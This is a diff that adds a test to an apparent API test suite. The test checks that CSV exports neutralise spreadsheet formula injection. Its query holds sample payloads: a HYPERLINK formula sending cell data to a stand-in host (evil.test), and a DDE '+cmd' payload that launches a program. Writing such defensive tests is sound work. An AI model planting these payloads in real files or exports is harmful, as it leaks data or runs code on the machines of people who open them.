@@ -134,6 +134,20 @@ describe("results", () => {
     assert.equal(await res.text(), 'text,quoted,lines,nothing,list\r\n"a,b","say ""hi""","x\ny",,"[1,2]"\r\n');
   });
 
+  test("CSV neutralises values a spreadsheet would run as formulas; numbers stay numbers", async () => {
+    const res = await fetch(`${api.url}/api/sql`, {
+      method: "POST",
+      headers: { "content-type": "application/json", origin: api.url, cookie: [...alice.cookies].map(([k, v]) => `${k}=${v}`).join("; ") },
+      body: JSON.stringify({
+        orgId: orgA,
+        format: "csv",
+        query: "SELECT '=HYPERLINK(\"http://evil.test/?\"&A2,\"x\")' AS link, '+cmd|'' /C calc''!A0' AS cmd, '@SUM(A1)' AS at, toDecimal64(-1.5, 2) AS cost",
+      }),
+    });
+    assert.equal(res.status, 200);
+    assert.equal(await res.text(), `link,cmd,at,cost\r\n"'=HYPERLINK(""http://evil.test/?""&A2,""x"")","'+cmd|' /C calc'!A0","'@SUM(A1)",-1.5\r\n`);
+  });
+
   test("more rows than the cap come back cut, and say so", async () => {
     const reply = await sql(alice, { orgId: orgA, query: "SELECT number FROM numbers(1500)" });
     assert.equal(reply.status, 200);
